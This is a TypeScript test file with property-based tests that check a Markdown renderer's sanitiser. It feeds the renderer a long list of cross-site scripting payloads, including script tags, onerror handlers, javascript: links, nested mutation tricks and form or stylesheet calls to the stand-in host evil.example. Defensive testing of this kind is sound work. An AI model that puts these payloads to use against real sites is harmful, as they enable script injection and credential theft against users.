import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { filterRawHtml } from "../../src/pages/markdown/raw-html.ts";
import { sanitise } from "../../src/pages/markdown/sanitise.ts";
import { renderMarkdown } from "../../src/pages/markdown.ts";
import { forbiddenParts } from "./allowed-html.ts";

const ATTACKS = [
  "<script>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)"/>',
  "<img/src=x/onerror=alert(1)>",
  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
  '<img src="https://evil.example/pixel.gif">',
  '<img src="asset:../../x">',
  '<img srcset="https://evil.example/x 2x">',
  "![x](javascript:alert(1))",
  "![x](data:image/png;base64,AAAA)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](\\\\evil.example)",
  "[x](node:javascript:alert(1))",
  "<javascript:alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#x1;javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https:javascript">x</a>',
  '<a href="x" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
  '<a href="x" ping="https://evil.example">x</a>',
  '[x](/a "onmouseover=alert(1) \\" onclick=alert(1)")',
  '[x](<a" onclick="alert(1)>)',
  '<p style="background:url(https://evil.example)">x</p>',
  "<style>body{display:none}</style>",
  "<style><img src=x onerror=alert(1)></style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<iframe src="https://evil.example"></iframe>',
  "<iframe><img src=x onerror=alert(1)></iframe>",
  '<object data="x"></object><embed src="x">',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><img src=x onerror=alert(1)></template>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<video><source onerror=alert(1)></video>",
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)>?>",
  "</p></div></main><script>alert(1)</script>",
  '<details ontoggle="alert(1)" open>x</details>',
  '<div role="banner" aria-label="x" onfocus="alert(1)" tabindex="0">x</div>',
  "`<img src=x onerror=alert(1)>` and ``` <script> ```",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  '## <img src=x onerror=alert(1)> {#"onclick="alert(1)}',
  "> [!NOTE] <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
  "[^<script>]: x\n\n[^<script>]",
  "*[<b onclick=alert(1)>](javascript:x)*",
  "<b <script>alert(1)</script>>",
  '<a title="<script>alert(1)</script>" href="x">x</a>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  '<a id="-text">x</a><form id="-outline">',
  "\u0000<script>\u0000</script>",
];

test.each(ATTACKS)("harmless: %j", (source) => {
  expect(forbiddenParts(renderMarkdown(source).html)).toEqual([]);
});

describe("each line of defence holds alone", () => {
  test.each(ATTACKS)("the sanitiser: %j", (source) => {
    expect(forbiddenParts(sanitise(source).html)).toEqual([]);
  });

  test("the filter lets no element pass that is not on its list", () => {
    const fragments = fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string()), { maxLength: 4 });
    fc.assert(
      fc.property(fragments, (parts) => {
        expect(forbiddenParts(filterRawHtml(parts.join(""))).filter((part) => /^<[a-z]/.test(part))).toEqual([]);
      }),
    );
  });
});

test("addresses that look right and are not are text, not links", () => {
  expect(renderMarkdown("[x](javascript:alert(1))").html).toBe("<p>[x](javascript:alert(1))</p>\n");
  expect(renderMarkdown('<a href="javascript:alert(1)">x</a>').html).toBe("<p><span>x</span></p>\n");
});

test("whatever is written, the HTML holds nothing but what is allowed, and is balanced", () => {
  const pieces = fc.constantFrom(
    ...ATTACKS,
    ..."< > \" ' & ; / = ` * _ ~ [ ] ( ) ! # | - + \\ : ^ {".split(" "),
    ..."<p> </p> <a <img <!-- --> <div> </div> <table><tr><td> <b> </i> <details> on= href= src= \n \n\n \n> \n- \n    \n``` ```rust\n > - 1. # |--|".split(
      " ",
    ),
    "\n",
    "\n\n",
    "\t",
    " ",
  );
  const documents = fc.array(fc.oneof({ weight: 4, arbitrary: pieces }, { weight: 1, arbitrary: fc.string({ unit: "binary" }) }), {
    maxLength: 30,
  });
  fc.assert(
    fc.property(documents, (parts) => {
      expect(forbiddenParts(renderMarkdown(parts.join("")).html)).toEqual([]);
    }),
    { numRuns: 1500 },
  );
});
